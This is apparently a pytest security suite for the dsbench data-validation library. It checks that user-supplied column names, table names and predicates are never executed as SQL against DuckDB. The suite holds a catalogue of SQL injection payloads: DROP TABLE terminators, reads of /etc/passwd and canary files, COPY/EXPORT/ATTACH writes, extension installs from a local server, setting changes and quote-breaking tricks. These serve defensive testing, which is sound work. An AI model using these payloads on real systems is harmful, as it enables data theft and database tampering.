"""SQL safety: nothing a suite, a manifest or a data file's own column names say is run as SQL.

Every payload below is placed everywhere a user controls text: column names (Parquet and CSV files
whose columns are payloads, and suites naming them), table names (manifest resource names,
``validate --table NAME=PATH``), regexes, value sets, LIKE patterns, bounds, ``row_condition`` and the
``predicate`` of ``expect_table_rows_to_satisfy``. For every run the test proves that nothing outside
the dataset was read, written, reached or changed:

- canary files outside the dataset: their secret never appears in any output (stdout, stderr, result
  JSON, card) and their size, mtime, ctime and atime are untouched (atime is set earlier than mtime,
  so under ``relatime`` any read moves it; a detector test checks that it does);
- a sentinel directory that every COPY / ATTACH / EXPORT payload targets stays empty;
- a real HTTP server on 127.0.0.1 (random port) records every connection and request: none arrive;
- the DuckDB connection of a ``dsbench.load_dataset`` Dataset still has the settings dsbench set
  (threads, enable_external_access = false, lock_configuration = true, allowed_paths limited to the
  dataset's files) and the same databases, tables, row counts, views and variables (where raw SQL
  reaches DuckDB, also every setting, macro and loaded extension).

Each payload ends in a one-line refusal (a DsbenchError naming the field, raised before any query
runs) or in a normal result where the payload was data (a value set holding ``x'); DROP TABLE t0; --``
simply matches that one row).

The defence is enforced twice and each layer is shown to hold ALONE:
1. the allow-list parser (``engine/predicate.py``) with quoting and bound parameters, with
   ``Dataset.seal`` turned into a no-op;
2. the sealed connection, with ``compile_predicate`` (as imported by ``expectations/base.py`` and
   ``expectations/record.py``) replaced by a pass-through that pastes raw SQL into the query. The
   same raw SQL run with BOTH layers off is the control: it does read, leak, write, reach the server
   or change a setting, so the detectors are shown to see what they are looking for.
A third check stands behind both: the runner executes single SELECT statements only (a sealed
connection still lets a smuggled DROP or DELETE change the dataset's own catalogue). The layer-2
tests turn it off too; ``test_sealed_connection_alone_keeps_the_catalogue`` shows it holds alone.
"""

from __future__ import annotations

import csv
import http.server
import json
import os
import re
import secrets
import shutil
import threading
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import duckdb
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

import dsbench
import dsbench.backends.duckdb.runner
import dsbench.expectations.base
import dsbench.expectations.record
import dsbench.validation.runner
from dsbench.backends.duckdb.loader import Dataset, LoadOptions
from dsbench.engine.metrics import Condition
from dsbench.engine.predicate import compile_predicate
from dsbench.engine.sql import quote_ident
from dsbench.errors import DataError, DsbenchError, SuiteError, UnsafeExpressionError
from tests.conftest import run_cli

REAL_SEAL = Dataset.seal
THREADS = 3  # not this machine's default, so a payload resetting it would show
SECRET = "canary-content-" + secrets.token_hex(12)  # inside the canary files outside the dataset
SECRET_NAME = "canary-name-" + secrets.token_hex(12)  # only in the NAME of a file outside the dataset
SECRET_ENV = "canary-env-" + secrets.token_hex(12)  # only in the environment variable DSBENCH_CANARY
PASSWD_MARKER = "root:x:0:0"  # a line of /etc/passwd
SECRETS = (SECRET, SECRET_NAME, SECRET_ENV, PASSWD_MARKER)

# --- payloads --------------------------------------------------------------------------------------
# {out}: the directory outside the dataset holding the canaries; {sent}: the sentinel directory;
# {url}: the recording HTTP server. The canary file names hold no secret: payloads may be echoed.

PAYLOADS: list[tuple[str, str]] = [
    # statement terminators, quote breaking
    ("terminator-int", "1); DROP TABLE t0; --"),
    ("terminator-quote", "x'); DROP TABLE t0; --"),
    ("terminator-dquote", 'x"); DROP TABLE t0; --'),
    ("terminator-bare", "'; DROP VIEW t0; SELECT '"),
    ("or-true", "x' OR '1'='1"),
    ("union-read-text", "x' UNION ALL SELECT content FROM read_text('{out}/canary.txt') --"),
    # writers
    ("copy-table", "COPY t0 TO '{sent}/copy-table.csv'"),
    ("copy-select-parquet", "1); COPY (SELECT 42) TO '{sent}/copy-select.parquet' (FORMAT parquet); --"),
    ("copy-after-quote", "x'; COPY t0 TO '{sent}/copy-quote.csv'; --"),
    ("copy-from-canary", "x'); COPY t0 FROM '{out}/canary.csv'; --"),
    ("export-database", "x'; EXPORT DATABASE '{sent}/export'; --"),
    # readers
    ("read-csv-passwd", "read_csv('/etc/passwd')"),
    ("read-csv-canary", "(SELECT * FROM read_csv('{out}/canary.csv'))"),
    ("read-text-canary", "read_text('{out}/canary.txt')"),
    ("read-blob-canary", "(SELECT content FROM read_blob('{out}/canary.txt'))"),
    ("read-parquet-canary", "x' IN (SELECT secret FROM read_parquet('{out}/canary.parquet')) --"),
    ("read-json-canary", "(SELECT * FROM read_json('{out}/canary.json'))"),
    ("replacement-scan", "(SELECT * FROM '{out}/canary.csv')"),
    ("cast-exfiltration", "CAST((SELECT content FROM read_text('{out}/canary.txt')) AS INTEGER) > 0"),
    # ATTACH
    ("attach-new", "ATTACH '{sent}/attached.duckdb' AS x"),
    ("attach-after-quote", "x'; ATTACH '{sent}/attached.duckdb' AS pwn; --"),
    ("attach-canary", "1); ATTACH '{out}/canary.duckdb' AS c (READ_ONLY); --"),
    # extensions
    ("install-httpfs", "INSTALL httpfs"),
    ("load-httpfs", "LOAD httpfs"),
    ("install-load-after-quote", "x'; INSTALL httpfs; LOAD httpfs; --"),
    ("install-from-server", "1); INSTALL httpfs FROM '{url}'; --"),
    ("load-file", "LOAD '{out}/canary.duckdb_extension'"),
    # environment and settings
    ("getenv", "getenv('DSBENCH_CANARY')"),
    ("getenv-after-quote", "x' OR getenv('HOME') IS NOT NULL OR 'a'='a"),
    ("current-setting", "current_setting('threads')"),
    ("current-setting-concat", "x' || current_setting('allowed_paths') || '"),
    ("set-threads", "SET threads=1"),
    ("set-after-quote", "x'; SET threads = 1; --"),
    ("set-external-access", "1); SET enable_external_access = true; --"),
    ("reset-lock", "1); RESET lock_configuration; --"),
    ("pragma-threads", "PRAGMA threads=1"),
    ("pragma-after-quote", "x'); PRAGMA database_list; --"),
    ("call-pragma", "CALL pragma_version()"),
    # comments
    ("line-comment", "n > 0 -- ' AND name = 'x"),
    ("block-comment", "n /* ' */ > 0"),
    ("comment-terminator", "x'/*; DROP TABLE t0; */--"),
    # Unicode quote look-alikes
    ("u2019", "x\u2019); DROP TABLE t0; --"),
    ("u201c", "x\u201c); DROP TABLE t0; --"),
    ("uff07", "x\uff07); DROP TABLE t0; --"),
    ("u02bc", "x\u02bc); DROP TABLE t0; --"),
    # NUL bytes
    ("nul-quote", "x\x00'); DROP TABLE t0; --"),
    ("nul-alone", "\x00"),
    # very long
    ("long-100k", "x" * 100_000 + "'); DROP TABLE t0; --"),
    ("long-nested-parens", "(" * 3000 + "1" + ")" * 3000),
    ("long-not-chain", "NOT " * 2400 + "true"),
    ("long-huge-integer", "n > " + "9" * 5000),
    # glob, query, query_table
    ("glob-star", "glob('*')"),
    ("glob-outside", "(SELECT list(file) FROM glob('{out}/*'))"),
    ("query", "query('SELECT * FROM read_text(''{out}/canary.txt'')')"),
    ("query-table", "(SELECT count(*) FROM query_table('t0'))"),
    # nested subqueries
    ("nested-subqueries", "n IN (SELECT n FROM (SELECT n FROM (SELECT 1 AS n)))"),
    ("exists-subquery", "EXISTS (SELECT 1 FROM (SELECT * FROM read_text('{out}/canary.txt')))"),
    ("scalar-subquery", "(SELECT max(n) FROM t0) > 0"),
    # URLs of the recording server
    ("http-read-csv", "read_csv('{url}/x.csv')"),
    ("http-read-parquet", "(SELECT count(*) FROM read_parquet('{url}/x.parquet')) > 0"),
    ("http-after-quote", "x'); SELECT * FROM read_csv('{url}/y.csv'); --"),
    # quoting and parsing tricks
    ("dollar-quote", "$$); DROP TABLE t0; --$$"),
    ("escape-string", "E'\\x27); DROP TABLE t0; --"),
    ("backslash-quote", "x\\'); DROP TABLE t0; --"),
    ("placeholder", "? OR 1=1"),
    ("qualified-name", "main.t0.n"),
    ("lambda", "list_transform([1], x -> x)"),
    ("unicode-digit", "n > \u00b2"),
    # a quoted type name that sqlglot does not know is kept as text (USERDEFINED): it must not be
    # pasted back into SQL, where it would close the query and run a statement of its own
    ("cast-type-breakout-condition", 'CAST(n AS "integral) IS NULL)) FROM t0; DROP VIEW t0; --") IS NULL'),
    ("cast-type-breakout-predicate",
     'CAST(n AS "integral) IS NULL)) IS NOT TRUE) FROM t0; DROP VIEW t0; --") IS NULL'),
]
PAYLOAD_IDS = [pid for pid, _ in PAYLOADS]
TEMPLATES = dict(PAYLOADS)

# Raw SQL for the sealed connection alone: the allow-list is replaced by a pass-through, so this text
# is pasted into the query. {brk} closes the query dsbench builds around a condition, so that the
# statement after it runs on its own, and {reopen} re-opens a query of the same shape. The last
# item is what the same SQL does with both layers off (the control). (getenv() is not a function of
# DuckDB's Python client, so it has no raw-SQL entry: it is refused by the allow-list above.)
BREAKOUT = {
    # SELECT count(*) FILTER (WHERE <condition>) FROM "t0"
    "row_condition": ('true) FROM "t0"', 'SELECT count(*) FILTER (WHERE true'),
    # SELECT count(*), count(*) FILTER (WHERE (<predicate>) IS NOT TRUE) FROM "t0"
    "predicate": ('true) IS NOT TRUE) FROM "t0"', 'SELECT count(*), count(*) FILTER (WHERE (true'),
}
RAW_SQL: list[tuple[str, str, str]] = [
    ("read-text-exfiltration", "CAST((SELECT content FROM read_text('{out}/canary.txt')) AS INTEGER) > 0", "leak"),
    ("read-csv", "(SELECT count(*) FROM read_csv('{out}/canary.csv')) > 0", "read"),
    ("read-blob", "(SELECT octet_length(content) FROM read_blob('{out}/canary.txt')) > 0", "read"),
    ("read-parquet-exfiltration",
     "CAST((SELECT secret FROM read_parquet('{out}/canary.parquet')) AS INTEGER) > 0", "leak"),
    ("glob-exfiltration", "CAST((SELECT string_agg(file, ',') FROM glob('{out}/*')) AS INTEGER) > 0", "leak"),
    ("query-exfiltration",
     "CAST((SELECT * FROM query('SELECT content FROM read_text(''{out}/canary.txt'')')) AS INTEGER) > 0", "leak"),
    ("http-read-csv", "(SELECT count(*) FROM read_csv('{url}/x.csv')) > 0", "request"),
    ("copy", "{brk}; COPY \"t0\" TO '{sent}/copy.csv'; {reopen}", "write"),
    ("copy-select", "{brk}; COPY (SELECT 42 AS x) TO '{sent}/copy.parquet' (FORMAT parquet); {reopen}", "write"),
    ("export-database", "{brk}; EXPORT DATABASE '{sent}/export'; {reopen}", "write"),
    ("attach-new", "{brk}; ATTACH '{sent}/attached.duckdb' AS pwn; {reopen}", "write"),
    ("attach-canary", "{brk}; ATTACH '{out}/canary.duckdb' AS c (READ_ONLY); {reopen}", "read"),
    ("install-from-server", "{brk}; INSTALL httpfs FROM '{url}'; {reopen}", "request"),
    ("load-file", "{brk}; LOAD '{out}/canary.duckdb_extension'; {reopen}", "read"),
    ("set-threads", "{brk}; SET threads = 1; {reopen}", "setting"),
    ("set-memory-limit", "{brk}; SET memory_limit = '123MB'; {reopen}", "setting"),
    ("pragma-threads", "{brk}; PRAGMA threads = 1; {reopen}", "setting"),
]
RAW_IDS = [pid for pid, _, _ in RAW_SQL]
# What a sealed connection says when it refuses (DuckDB's own words).
SEAL_REFUSAL = re.compile(r"(?i)permission|disabled|lock|not allowed|external access|cannot (change|access)")


# --- the world outside the dataset ----------------------------------------------------------------

class _Recorder(http.server.BaseHTTPRequestHandler):
    def _record(self) -> None:
        self.server.requests.append(f"{self.command} {self.path}")  # type: ignore[attr-defined]
        self.send_response(404)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_GET = do_HEAD = do_POST = do_PUT = do_DELETE = do_OPTIONS = do_PATCH = _record

    def log_message(self, *args: Any) -> None:
        pass


class _Server(http.server.ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Recorder)
        self.requests: list[str] = []
        self.connections: list[Any] = []

    def verify_request(self, request: Any, client_address: Any) -> bool:
        self.connections.append(client_address)  # every TCP connection, even one that sends nothing
        return True


def _atime_is_updated(root: Path) -> bool:
    probe = root / "atime-probe"
    probe.write_text("x")
    st = os.stat(probe)
    os.utime(probe, ns=(st.st_mtime_ns - 10**12, st.st_mtime_ns))
    before = os.stat(probe).st_atime_ns
    probe.read_text()
    return os.stat(probe).st_atime_ns != before


class World:
    """Canaries, a sentinel directory and a recording HTTP server, outside any dataset."""

    def __init__(self, root: Path):
        self.root = root
        self.outside = root / "outside"
        self.sentinel = root / "sentinel"
        self.outside.mkdir()
        self.sentinel.mkdir()
        (self.outside / "canary.txt").write_text(SECRET + "\n")
        (self.outside / "canary.csv").write_text(f"secret\n{SECRET}\n")
        (self.outside / "canary.json").write_text(json.dumps([{"secret": SECRET}]))
        pq.write_table(pa.table({"secret": [SECRET]}), self.outside / "canary.parquet")
        with duckdb.connect(str(self.outside / "canary.duckdb")) as con:
            con.execute("CREATE TABLE s AS SELECT ? AS secret", [SECRET])
        (self.outside / "canary.duckdb_extension").write_text(SECRET * 100)
        (self.outside / f"{SECRET_NAME}.txt").write_text("a file whose name is the secret\n")
        self.watched = sorted(self.outside.iterdir()) + [self.outside]
        self.atime = _atime_is_updated(root)
        for path in self.watched:  # atime before mtime: under relatime, any read moves it
            st = os.stat(path)
            os.utime(path, ns=(st.st_mtime_ns - 10**12, st.st_mtime_ns))
        self.snapshot = self._stat()
        self.server = _Server()
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self._thread = threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.05},
                                        daemon=True)
        self._thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()

    def render(self, template: str, **extra: str) -> str:
        text = template
        for key, value in {"out": str(self.outside), "sent": str(self.sentinel), "url": self.url, **extra}.items():
            text = text.replace("{" + key + "}", value)
        return text

    def payload(self, pid: str) -> str:
        return self.render(TEMPLATES[pid])

    def _stat(self) -> dict[Path, tuple[int, ...]]:
        stats = {}
        for path in self.watched:
            st = os.stat(path)  # stat() never changes atime; nothing here reads or lists a canary
            stats[path] = (st.st_size, st.st_mtime_ns, st.st_ctime_ns, st.st_atime_ns if self.atime else 0)
        return stats

    def harm(self, outputs: list[str]) -> list[str]:
        """Everything that shows that something outside the dataset was read, written or reached."""
        found = [f"touched {path.name}" for path, stat in self._stat().items() if self.snapshot[path] != stat]
        found += [f"wrote {path.name}" for path in self.sentinel.iterdir()]
        found += [f"request {r}" for r in self.server.requests]
        found += [f"connection from {c}" for c in self.server.connections if not self.server.requests]
        for text in outputs:
            found += [f"leaked {'the ' + secret[:12] if secret != PASSWD_MARKER else '/etc/passwd'}"
                      for secret in SECRETS if secret in text]
        if found:
            self.reset()
        return found

    def reset(self) -> None:
        """After a detected harm, make the world clean again for the next test."""
        for path in self.sentinel.iterdir():
            shutil.rmtree(path) if path.is_dir() else path.unlink()
        self.server.requests.clear()
        self.server.connections.clear()
        for path, (_, mtime, _, atime) in self.snapshot.items():
            if self.atime:
                os.utime(path, ns=(atime, mtime))
        self.snapshot = self._stat()


@pytest.fixture(scope="module")
def world(tmp_path_factory) -> World:
    saved = os.environ.get("DSBENCH_CANARY")
    os.environ["DSBENCH_CANARY"] = SECRET_ENV
    made = World(tmp_path_factory.mktemp("world"))
    made.values_dir = tmp_path_factory.mktemp("values")  # type: ignore[attr-defined]
    yield made
    made.close()
    if saved is None:
        os.environ.pop("DSBENCH_CANARY", None)
    else:
        os.environ["DSBENCH_CANARY"] = saved


@pytest.fixture(scope="module")
def values_data(world) -> tuple[Path, list[str]]:
    """A table whose text column holds every payload as a value (plus 'a' and a null)."""
    names = ["a", *(world.payload(pid) for pid in PAYLOAD_IDS)]
    assert len(set(names)) == len(names)
    path = world.values_dir / "values.parquet"  # type: ignore[attr-defined]
    # (no statistics: a 100,000-character minimum or maximum in the footer would slow every scan)
    pq.write_table(pa.table({"name": [*names, None], "n": list(range(1, len(names) + 2))}), path,
                   write_statistics=False)
    return path, names


# --- running dsbench and checking what it did -----------------------------------------------------

@dataclass
class Run:
    error: Exception | None  # the refusal, a DsbenchError
    document: dict | None  # the GX-shaped result
    text: str  # everything the run returned, for the secret check
    queried: bool  # whether any validation query ran

    def results(self) -> list[dict]:
        assert self.error is None, f"refused: {self.error}"
        return self.document["results"]


SETTINGS = ["threads", "memory_limit", "enable_external_access", "lock_configuration", "allowed_paths",
            "allowed_directories", "autoinstall_known_extensions", "autoload_known_extensions",
            "autoinstall_extension_repository", "custom_extension_repository", "allow_unsigned_extensions",
            "allow_community_extensions", "temp_directory", "access_mode"]


def connection_state(dataset: Dataset, full: bool = False) -> dict[str, Any]:
    """What a payload could change on the connection: settings, databases, tables, views, variables,
    row counts; with ``full`` also every setting, macro and loaded extension (slower)."""
    con = dataset.con

    def rows(sql: str) -> Any:
        try:
            return con.execute(sql).fetchall()
        except duckdb.Error as error:
            return f"error: {type(error).__name__}"

    state = {
        "settings": rows("SELECT " + ", ".join(f"current_setting('{s}')" for s in SETTINGS)),
        "databases": rows("SELECT database_name, path, readonly FROM duckdb_databases() ORDER BY ALL"),
        "tables": rows("SELECT database_name, schema_name, table_name FROM duckdb_tables() "
                       "WHERE NOT internal ORDER BY ALL"),
        "views": rows("SELECT database_name, schema_name, view_name FROM duckdb_views() "
                      "WHERE NOT internal ORDER BY ALL"),
        "variables": rows("SELECT name FROM duckdb_variables() ORDER BY ALL"),
    }
    # Rows can be deleted from tables only (CSV and JSON are parsed into tables; files are views).
    for database, schema, table in state["tables"] if isinstance(state["tables"], list) else []:
        state[f"rows of {table}"] = rows(f"SELECT count(*) FROM {quote_ident(database)}.{quote_ident(schema)}."
                                         f"{quote_ident(table)}")
    if full:
        state["all settings"] = rows("SELECT name, value FROM duckdb_settings() ORDER BY name")
        state["macros"] = rows("SELECT schema_name, function_name FROM duckdb_functions() "
                               "WHERE NOT internal ORDER BY ALL")
        state["extensions"] = rows("SELECT extension_name FROM duckdb_extensions() WHERE loaded ORDER BY ALL")
    return state


def seal_violations(dataset: Dataset) -> list[str]:
    """The settings dsbench sets when it seals a connection, read back from the connection."""
    threads, external, locked, paths, directories = dataset.con.execute(
        "SELECT current_setting('threads'), current_setting('enable_external_access'), "
        "current_setting('lock_configuration'), current_setting('allowed_paths'), "
        "current_setting('allowed_directories')").fetchone()
    own = {str(f.resolve()) for table in dataset.tables.values() for f in table.files}
    scratch = str(dataset.scratch_dir())  # dsbench's own temporary directory (spilling)
    found = []
    if int(threads) != THREADS:
        found.append(f"threads = {threads}")
    if str(external).lower() != "false":
        found.append(f"enable_external_access = {external}")
    if str(locked).lower() != "true":
        found.append(f"lock_configuration = {locked}")
    if not set(paths or []) <= own:
        found.append(f"allowed_paths = {paths}")
    if any(not d.startswith(scratch) for d in directories or []):
        found.append(f"allowed_directories = {directories}")
    return found


def open_violations(dataset: Dataset) -> list[str]:
    """With the seal turned off, the connection must really be open (so the layer is really off)."""
    external, locked = dataset.con.execute("SELECT current_setting('enable_external_access'), "
                                           "current_setting('lock_configuration')").fetchone()
    return [] if str(external).lower() == "true" and str(locked).lower() == "false" else ["connection is sealed"]


def prepare_connection(dataset: Dataset, world: World) -> None:
    """Were an extension ever downloaded, it would come from the recording server, not the internet;
    then seal, as validate does first (a no-op when the test turned the seal off)."""
    for setting in ("autoinstall_extension_repository", "custom_extension_repository"):
        dataset.con.execute(f"SET {setting} = ?", [world.url])
    dataset.seal()


class SharedData:
    """Files and Datasets opened once for the module, each in two set-ups: 'sealed' as dsbench seals
    it, and open (never sealed: the tests using it turn Dataset.seal into a no-op and check that the
    connection is open). A Dataset whose state a test changed is opened again before it is reused."""

    def __init__(self, world: World, root: Path, values: Path):
        self.world, self.root = world, root
        self.paths = {"values": values}
        names = [world.payload(pid) for pid in PAYLOAD_IDS if "\x00" not in world.payload(pid)]
        # Files whose column names are the payloads (every column 1, null, 3), plus 'n'. A Parquet
        # footer holding a 100,000-character name is parsed on every scan: such names get a file each.
        self.paths["columns.parquet"] = root / "columns.parquet"
        pq.write_table(pa.table({**{name: [1, None, 3] for name in names if len(name) < 1000}, "n": [1, 2, 3]}),
                       self.paths["columns.parquet"])
        self.long_files = {}
        for pid in PAYLOAD_IDS:
            if len(world.payload(pid)) >= 1000 and "\x00" not in world.payload(pid):
                self.long_files[pid] = root / f"{pid}.parquet"
                pq.write_table(pa.table({world.payload(pid): [1, None, 3], "n": [1, 2, 3]}), self.long_files[pid])
        self.paths["columns.csv"] = root / "columns.csv"
        with self.paths["columns.csv"].open("w", newline="", encoding="utf-8") as handle:
            csv.writer(handle, quoting=csv.QUOTE_ALL).writerows(
                [[*names, "n"], [*(["1"] * len(names)), "1"], [*([""] * len(names)), "2"], [*(["3"] * len(names)), "3"]])
        self.nul_files: dict[str, list[Path]] = {}
        for pid in PAYLOAD_IDS:
            if "\x00" in world.payload(pid):
                name, parquet, text = world.payload(pid), root / f"{pid}.parquet", root / f"{pid}.csv"
                pq.write_table(pa.table({name: [1, None, 3], "n": [1, 2, 3]}), parquet)
                text.write_text('"' + name.replace('"', '""') + '","n"\n1,1\n,2\n3,3\n', encoding="utf-8")
                self.nul_files[pid] = [parquet, text]
        # A data package whose resource names are the payloads (all the same file), and 'other'.
        package = root / "package"
        package.mkdir()
        pq.write_table(pa.table({"n": [1, 2, 3]}), package / "d.parquet")
        pq.write_table(pa.table({"n": [1, 2, 3]}), package / "o.parquet")
        (package / "datapackage.json").write_text(json.dumps({"name": "package", "resources": [
            *({"name": world.payload(pid), "path": "d.parquet"} for pid in PAYLOAD_IDS),
            {"name": "other", "path": "o.parquet"}]}))
        self.paths["package"] = package
        self.datasets: dict[tuple[str, bool], tuple[Dataset, dict]] = {}

    def get(self, key: str, sealed: bool) -> Dataset:
        opened = self.datasets.get((key, sealed))
        if opened is not None and connection_state(opened[0]) == opened[1]:
            return opened[0]
        if opened is not None:
            opened[0].close()
        dataset = dsbench.load_dataset(self.paths[key], options=LoadOptions(threads=THREADS))
        for setting in ("autoinstall_extension_repository", "custom_extension_repository"):
            dataset.con.execute(f"SET {setting} = ?", [self.world.url])
        if sealed:
            REAL_SEAL(dataset)  # whatever the test did to Dataset.seal
        self.datasets[(key, sealed)] = dataset, connection_state(dataset)
        return dataset

    def close(self) -> None:
        for dataset, _ in self.datasets.values():
            dataset.close()


@pytest.fixture(scope="module")
def shared(world, values_data, tmp_path_factory) -> SharedData:
    data = SharedData(world, tmp_path_factory.mktemp("shared"), values_data[0])
    yield data
    data.close()


class Harness:
    def __init__(self, world: World, calls: list, monkeypatch: pytest.MonkeyPatch, capsys: Any):
        self.world, self.calls, self.monkeypatch, self.capsys = world, calls, monkeypatch, capsys
        self.columns: list[str] = []  # the columns of the table last loaded

    # -- the two layers ----------------------------------------------------------------------------
    def unseal(self) -> None:
        """Layer 2 off: the connection is never sealed."""
        self.monkeypatch.setattr(Dataset, "seal", lambda self: None)

    def pass_raw_sql(self) -> None:
        """Layer 1 off: row conditions and predicates are pasted into SQL as they are."""
        def passthrough(text: str, columns: Any, field: str = "row_condition", **how: Any) -> Condition:
            return Condition(text)

        self.monkeypatch.setattr(dsbench.expectations.base, "compile_predicate", passthrough)
        self.monkeypatch.setattr(dsbench.expectations.record, "compile_predicate", passthrough)

    def run_any_statement(self) -> None:
        """The runner's single-SELECT check off too: only the sealed connection is left."""
        self.monkeypatch.setattr(dsbench.backends.duckdb.runner, "_one_select", lambda con, sql: None)

    # -- API -----------------------------------------------------------------------------------------
    def validate(self, data: Any, suites: list[Any], *, sealed: bool = True, tables: dict | None = None,
                 harmless: bool = True, full: bool = False) -> tuple[list[Run], list[str]]:
        """Validate every suite on a Dataset (``data`` itself, or ``data`` opened with
        dsbench.load_dataset), then read the connection back. With ``harmless``, assert that nothing
        was harmed; else return the harm."""
        if isinstance(data, Dataset):
            return self._on(data, suites, sealed, harmless, full)
        try:
            dataset = dsbench.load_dataset(data, options=LoadOptions(threads=THREADS), extra_tables=tables)
        except DsbenchError as error:
            self.assert_one_line(error)
            harm = self.world.harm([str(error)])
            assert not harm or not harmless, harm
            return [Run(error, None, str(error), False) for _ in suites], harm
        with dataset:
            self.columns = list(dataset.table().columns) if dataset.primary else []
            prepare_connection(dataset, self.world)
            return self._on(dataset, suites, sealed, harmless, full)

    def _on(self, dataset: Dataset, suites: list[Any], sealed: bool, harmless: bool,
            full: bool) -> tuple[list[Run], list[str]]:
        layer = seal_violations if sealed else open_violations
        before = connection_state(dataset, full)
        runs, harm = [], layer(dataset)
        for suite in suites:
            calls = len(self.calls)
            try:
                result = dsbench.validate(dataset, suite)
            except DsbenchError as error:
                self.assert_one_line(error)
                runs.append(Run(error, None, str(error), len(self.calls) > calls))
            except Exception as error:  # noqa: BLE001 - a crash; only the controls tolerate it
                if harmless:
                    raise
                runs.append(Run(error, None, str(error), len(self.calls) > calls))
            else:
                document = result.to_dict()
                runs.append(Run(None, document, json.dumps(document, ensure_ascii=False, default=str),
                                len(self.calls) > calls))
        after = connection_state(dataset, full)
        harm += [f"changed {key}: {before[key]} -> {after.get(key)}" for key in before if before[key] != after.get(key)]
        harm += layer(dataset)
        harm += self.world.harm([r.text for r in runs])
        assert not harm or not harmless, harm
        return runs, harm

    @staticmethod
    def assert_one_line(error: Exception) -> None:
        assert isinstance(error, DsbenchError), repr(error)
        assert "\n" not in str(error) and str(error).strip(), repr(str(error)[:300])

    # -- CLI, in process: real argument parsing, real exit codes, stdout and stderr ---------------
    def cli(self, *args: Any, outputs: tuple[Path, ...] = ()) -> tuple[int, str, str]:
        from dsbench.cli.app import main

        self.monkeypatch.setenv("DSBENCH_DEBUG", "1")  # a crash raises instead of becoming one line
        self.capsys.readouterr()
        with pytest.raises(SystemExit) as stop:
            main([str(a) for a in args])
        captured = self.capsys.readouterr()
        code = stop.value.code or 0
        texts = [captured.out, captured.err]
        texts += [p.read_text(errors="replace") for out in outputs if out.exists()
                  for p in ([out] if out.is_file() else sorted(out.rglob("*"))) if p.is_file()]
        harm = self.world.harm(texts)
        assert not harm, harm
        if code == 2:
            assert captured.err.startswith("dsbench: error: ") and captured.err.count("\n") == 1, captured.err[:500]
        return code, captured.out, captured.err


@pytest.fixture
def compute_calls(monkeypatch) -> list:
    """Every call of the validation's query runner (a refusal must come before the first)."""
    calls: list = []
    real = dsbench.validation.runner._compute

    def spy(*args: Any, **kwargs: Any) -> Any:
        calls.append(1)
        return real(*args, **kwargs)

    monkeypatch.setattr(dsbench.validation.runner, "_compute", spy)
    return calls


@pytest.fixture
def h(world, compute_calls, monkeypatch, capsys) -> Harness:
    harness = Harness(world, compute_calls, monkeypatch, capsys)
    assert not world.harm([]), "a previous test left the world harmed"
    return harness


def assert_refused(run: Run, location: str, kind: type = SuiteError) -> None:
    """A one-line refusal naming the field, raised before any query ran."""
    assert run.error is not None, f"accepted: {run.text[:500]}"
    assert isinstance(run.error, kind), repr(run.error)
    assert run.error.location and run.error.location.endswith(location), (run.error.location, location)
    assert not run.queried, "a query ran before the refusal"


def unexpected(result: dict) -> int:
    assert not result["exception_info"]["raised_exception"], result["exception_info"]
    return result["result"]["unexpected_count"]


def re2_literal(text: str) -> str:
    """An RE2 pattern matching exactly ``text``."""
    out = []
    for ch in text:
        if ch.isascii() and (ch.isalnum() or ch == " "):
            out.append(ch)
        elif ch.isascii() and 0x20 < ord(ch) < 0x7F:
            out.append("\\" + ch)
        else:
            out.append(f"\\x{{{ord(ch):x}}}")
    return "^" + "".join(out) + "$"


def like_matcher(pattern: str) -> Any:
    """SQL LIKE without an escape character: % any text, _ one character."""
    regex = re.compile("".join(".*" if c == "%" else "." if c == "_" else re.escape(c) for c in pattern), re.DOTALL)
    return lambda value: regex.fullmatch(value) is not None


def sql_string(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


LAYERS = ["both-layers", "allow-list-alone"]


def layer_setup(h: Harness, layer: str) -> bool:
    """Turn the seal off for 'allow-list-alone'; return whether the connection is sealed."""
    if layer == "allow-list-alone":
        h.unseal()
        return False
    return True


def run_each(h: Harness, dataset: Dataset, items: list[tuple[dict, str]], sealed: bool) -> list[dict]:
    """Run ``items`` (expectation, the field a refusal of it must name) as one suite. A refusal must
    name one of them and come before any query; that one is dropped and the rest run again. The
    results of the accepted ones are returned (none may have errored)."""
    pending = list(items)
    while pending:
        run = h.validate(dataset, [[e for e, _ in pending]], sealed=sealed)[0][0]
        if run.error is None:
            results = run.results()
            assert not [r for r in results if r["exception_info"]["raised_exception"]], run.text[:1000]
            return results
        where = re.fullmatch(r"expectations\[(\d+)\]\.(.+)", run.error.location or "")
        assert where and where.group(2) == pending[int(where.group(1))][1], (run.error, pending)
        assert not run.queried, "a query ran before the refusal"
        pending.pop(int(where.group(1)))
    return []


# --- the catalogue ----------------------------------------------------------------------------------

def test_payload_catalogue(world):
    rendered = [world.payload(pid) for pid in PAYLOAD_IDS]
    assert len(PAYLOADS) >= 50 and len(set(PAYLOAD_IDS)) == len(PAYLOADS) and len(set(rendered)) == len(PAYLOADS)
    joined = "\n".join(rendered)
    for family in ["DROP TABLE t0", "COPY t0 TO", "read_csv('/etc/passwd')", "read_text(", "read_blob(",
                   "ATTACH '", "INSTALL httpfs", "LOAD httpfs", "getenv('HOME')", "current_setting(",
                   "SET threads", "PRAGMA ", "--", "/*", "\u2019", "\u201c", "\uff07", "\u02bc", "\x00",
                   "glob('*')", "query('SELECT", "query_table", "(SELECT n FROM (SELECT", world.url]:
        assert family in joined, family
    assert max(len(p) for p in rendered) > 100_000
    assert not any(secret in joined for secret in SECRETS)


def test_detectors_see_what_they_look_for(world):
    """Each detector, on its own: a read of a canary, a file in the sentinel directory, a request to the
    server, a secret in an output. (The controls below show the same for DuckDB doing the harm.)"""
    import urllib.error
    import urllib.request

    assert world.harm([]) == []
    if world.atime:
        (world.outside / "canary.txt").read_text()
        assert world.harm([]) == ["touched canary.txt"]
    (world.sentinel / "x.csv").write_text("1")
    assert world.harm([]) == ["wrote x.csv"]
    with pytest.raises(urllib.error.HTTPError):
        urllib.request.urlopen(world.url + "/probe", timeout=5)
    assert world.harm([]) == ["request GET /probe"]
    assert world.harm([f"... {SECRET} ..."]) == [f"leaked the {SECRET[:12]}"]
    assert world.harm([]) == []


